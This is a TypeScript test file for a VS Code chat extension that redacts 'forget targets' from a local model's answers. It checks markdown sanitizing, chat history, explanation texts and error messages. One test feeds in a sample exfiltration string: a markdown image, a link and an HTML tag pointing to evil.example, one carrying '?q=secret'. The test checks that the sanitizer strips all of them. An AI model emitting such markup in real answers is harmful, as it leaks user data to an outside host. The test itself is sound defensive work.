import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { LlmError } from '../../src/core/llm/errors';
import { InvalidHostError } from '../../src/core/llm/hostPolicy';
import {
  describeChatError,
  escapeMarkdown,
  explainText,
  MarkdownSanitizer,
  modelsText,
  progressMessage,
  sanitizeMarkdown,
  targetsText,
  toHistory,
} from '../../src/vscode/chatFormat';
import { forgetOriginals, originalOf, rememberOriginal } from '../../src/vscode/originals';
import { pullProgressText } from '../../src/vscode/progressText';

/** Feeds the text in every possible two-piece split and in single characters: the output must not depend on chunking. */
function streamed(text: string): string[] {
  const outs: string[] = [];
  for (let cut = 0; cut <= text.length; cut++) {
    const s = new MarkdownSanitizer();
    outs.push(s.push(text.slice(0, cut)) + s.push(text.slice(cut)) + s.end());
  }
  const s = new MarkdownSanitizer();
  outs.push([...text].map((c) => s.push(c)).join('') + s.end());
  return outs;
}

describe('MarkdownSanitizer', () => {
  test('no image, link, autolink or HTML survives, however the text is chunked', () => {
    const attack = 'See ![x](https://evil.example/p.png?q=secret) and [click](http://evil.example) or <img src="https://evil.example/a"> www.evil.example <https://evil.example>\n';
    for (const out of streamed(attack)) {
      // Every bracket escaped (no link or image can form), no raw tag, no URL an autolinker finds.
      assert.doesNotMatch(out, /(?<!\\)[[\]]|<|https?:\/\/|www\.evil/, out);
      assert.match(out, /\\\[click\\\]/);
    }
  });

  test('code keeps its text; an unclosed fence is closed so our notes stay outside it', () => {
    const text = 'Use `a[0] <b>` here.\n```ts\nconst x = a[0] < 1; // http://x\n';
    for (const out of streamed(text)) {
      assert.ok(out.includes('`a[0] <b>`'), out);
      assert.ok(out.includes('const x = a[0] < 1; // http://x\n'), out);
      assert.ok(out.trimEnd().endsWith('```'), out);
    }
  });

  test('a fence closed by the model is not closed twice, and its info string is cleaned', () => {
    assert.equal(sanitizeMarkdown('```js onload=x\ncode\n```\nafter'), '```\ncode\n```\nafter');
    assert.equal(sanitizeMarkdown('```python\nprint(1)\n```\n'), '```python\nprint(1)\n```\n');
  });

  test('markers render bold with their brackets escaped, also when split across chunks', () => {
    for (const out of streamed('He works on [redacted: Project Falcon] daily.')) {
      assert.equal(out, 'He works on **\\[redacted: Project Falcon\\]** daily.');
    }
  });

  test('ordinary markdown still renders', () => {
    assert.equal(sanitizeMarkdown('# Title\n- **bold** and _em_\n1. item'), '# Title\n- **bold** and _em_\n1. item');
  });

  test('partial lines are released early at spaces, so the answer streams', () => {
    const s = new MarkdownSanitizer();
    assert.equal(s.push('Paris is the capital'), 'Paris is the ');
    assert.equal(s.push(' of France.'), 'capital of ');
    assert.equal(s.end(), 'France.');
  });
});

describe('chat texts', () => {
  test('progress comes from stage starts only', () => {
    assert.equal(progressMessage({ type: 'stage-start', stage: 'audit', message: 'Auditing for 2 targets…', targets: 2 }), 'Auditing for 2 targets…');
    assert.equal(progressMessage({ type: 'stage-end', stage: 'audit', ms: 3 }), undefined);
    assert.equal(progressMessage({ type: 'answer-chunk', text: 'x' }), undefined);
  });

  test('history uses the stored guarded answer and leaves slash-command turns out', () => {
    const history = toHistory([
      { kind: 'request', prompt: 'Who runs it?' },
      { kind: 'response', answer: '[redacted: Jane Roe] does.', markdown: ['**\\[redacted: Jane Roe\\]** does.'] },
      { kind: 'request', prompt: 'Falcon', command: 'forget' },
      { kind: 'response', markdown: ['Added Falcon'] },
      { kind: 'request', prompt: 'And before?' },
      { kind: 'response', markdown: ['Someone ', 'else.'] },
    ]);
    assert.deepEqual(history, [
      { role: 'user', content: 'Who runs it?' },
      { role: 'assistant', content: '[redacted: Jane Roe] does.' },
      { role: 'user', content: 'And before?' },
      { role: 'assistant', content: 'Someone else.' },
    ]);
  });

  test('explain names targets and reasons, never removed text', () => {
    const text = explainText({
      outcome: 'erased',
      answer: 'x',
      touched: [{ id: 'a', name: 'Project Falcon' }],
      redactions: [{ targetId: 'a', targetName: 'Project Falcon', start: 0, end: 5, reason: 'names the target', by: 'guard' }],
      guardActed: true,
    });
    assert.match(text, /Project Falcon/);
    assert.match(text, /names the target \(leak guard\)/);
    assert.match(explainText(undefined), /no earlier/);
    assert.match(explainText({ outcome: 'vanilla', redactions: [] }), /touched no forget target/);
  });

  test('targets and models lists', () => {
    const text = targetsText([{ label: 'w', targets: [{ id: 'a', name: 'Falcon_X', aliases: ['FX'], enabled: false }], problems: 2 }]);
    assert.match(text, /Falcon\\_X.*disabled.*"FX"/);
    assert.match(text, /2 malformed entries/);
    assert.match(targetsText([{ label: 'w', targets: [], problems: 0 }]), /No forget targets/);
    assert.match(modelsText('http://127.0.0.1:11434', [{ name: 'llama3.2:latest', sizeBytes: 2e9 }], 'llama3.2'), /llama3\.2:latest.*2\.0 GB \*\*\(in use\)\*\*/);
  });

  test('escapeMarkdown neutralises names that look like markup', () => {
    assert.equal(escapeMarkdown('[a](http://b)'), '\\[a\\]\\(http:\\/\\/b\\)');
  });

  test('errors come with the fix', () => {
    const down = describeChatError(new LlmError('unreachable', 'refused'), 'http://127.0.0.1:11434', 'llama3.2');
    assert.equal(down.code, 'unreachable');
    assert.deepEqual(down.buttons[0], { title: 'Open unlearn.ollamaHost', command: 'unlearn.openSetting', arguments: ['unlearn.ollamaHost'] });
    const missing = describeChatError(new LlmError('model-missing', '404'), 'h', 'qwen3');
    assert.deepEqual(missing.buttons.map((b) => b.command), ['unlearn.pullModel', 'unlearn.selectModel']);
    assert.deepEqual(missing.buttons[0]!.arguments, ['qwen3']);
    assert.equal(describeChatError(new InvalidHostError('bad host'), 'x', 'm').code, 'invalid-host');
    assert.equal(describeChatError(new Error('boom'), 'x', 'm').code, 'unknown');
  });

  test('pull progress', () => {
    assert.deepEqual(pullProgressText({ status: 'pulling manifest' }), { message: 'pulling manifest' });
    const p = pullProgressText({ status: 'pulling abc', completed: 5e8, total: 2e9 });
    assert.equal(p.percent, 25);
    assert.match(p.message, /500 MB of 2\.0 GB \(25%\)/);
  });
});

describe('kept originals', () => {
  test('capped, looked up by key, dropped on demand', () => {
    const first = rememberOriginal('first');
    assert.equal(originalOf(first), 'first');
    for (let i = 0; i < 25; i++) rememberOriginal(`n${i}`);
    assert.equal(originalOf(first), undefined, 'the oldest goes once more than 20 are kept');
    const last = rememberOriginal('last');
    forgetOriginals();
    assert.equal(originalOf(last), undefined);
    assert.equal(originalOf(undefined), undefined);
  });
});
